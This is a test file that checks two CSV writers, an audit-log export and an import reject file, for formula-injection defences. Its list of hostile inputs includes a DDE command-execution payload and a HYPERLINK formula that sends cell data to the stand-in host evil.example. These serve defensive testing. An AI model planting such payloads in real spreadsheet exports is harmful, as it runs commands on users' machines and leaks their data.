import { readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { ProblemError } from '#libs/http';
import { formatted, type FoundEntry } from '#libs/audit';
import { RejectFile } from '../../apps/registration/src/import/reject-file.js';

/** What a spreadsheet would compute, send or run (OWASP: CSV injection), and attempts to break out of a cell. */
const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"ok")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '";=1+1;"',
  '",=1+1,"',
  '"\r\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];

/** As a spreadsheet decides. */
const COMPUTES = /^[=+\-@\t\r＝＋－＠]/;

describe('A file for a spreadsheet', () => {
  it('has no cell that computes: entries of the audit log', async () => {
    const entries = HOSTILE.map((text, seq) => ({
      ...{ seq, at: text, event: text, actor: text, municipality: text, subject: text, alert: text },
      ...{ id: text, commitment: text, payload: { [text]: text }, schema: 1 },
    })) as unknown as FoundEntry[];
    async function* all() {
      yield* entries;
      await Promise.resolve();
    }
    let file = '';
    for await (const line of formatted(all(), 'csv', { who: () => '=1+1' })) file += line;
    const rows = parse(file, { bom: true, relax_column_count: true });
    expect(rows).toHaveLength(HOSTILE.length + 1);
    expect(new Set(rows.map((row) => row.length)).size).toBe(1);
    expect(rows.flat().filter((cell) => COMPUTES.test(cell))).toEqual([]);
  });

  it('has no cell that computes: what an import refused', async () => {
    const path = join(tmpdir(), `campanile-${randomUUID()}.csv`);
    const rejects = new RejectFile(path);
    for (const text of HOSTILE)
      await rejects.add(1, {
        column: 'number',
        problem: new ProblemError(text, { status: 422, it: text, en: text }),
      });
    await rejects.close();
    const rows = parse(await readFile(path, 'utf8'), { bom: true, delimiter: ';' });
    await rm(path);
    expect(rows).toHaveLength(HOSTILE.length + 1);
    expect(rows.flat().filter((cell) => COMPUTES.test(cell))).toEqual([]);
  });
});
